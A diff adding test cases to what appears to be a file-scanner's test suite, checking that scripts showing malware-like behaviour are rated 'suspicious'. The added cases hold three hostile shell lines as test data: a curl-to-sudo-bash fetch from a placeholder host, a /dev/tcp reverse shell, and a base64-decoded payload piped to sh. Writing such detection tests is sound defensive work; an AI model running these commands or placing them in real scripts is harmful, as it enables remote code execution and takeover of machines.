@@ -26,6 +26,12 @@ describe('programs', () => {
     expect(await observed(executable, '#!/bin/sh\necho hello\n')).toMatchObject({ verdict: 'unknown', rules: ['executable.script'] })
     expect((await observed(executable, bytes('0061736d 01000000'))).verdict).toBe('unknown')
   })
+  it.each(['curl -s http://a.test/x | sudo bash', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'echo aGk= | base64 -d | sh'])(
+    'a script that does what malware does is suspicious: %s',
+    async (line) => {
+      expect((await observed(executable, `#!/bin/sh\n${line}\n`)).verdict).toBe('suspicious')
+    },
+  )
   it.each([['MZ is a name here, and this is text'], ['#! not a path'], ['\x7fELF and no more, as text'], ['']])(
     '%s is none',
     async (content) => {
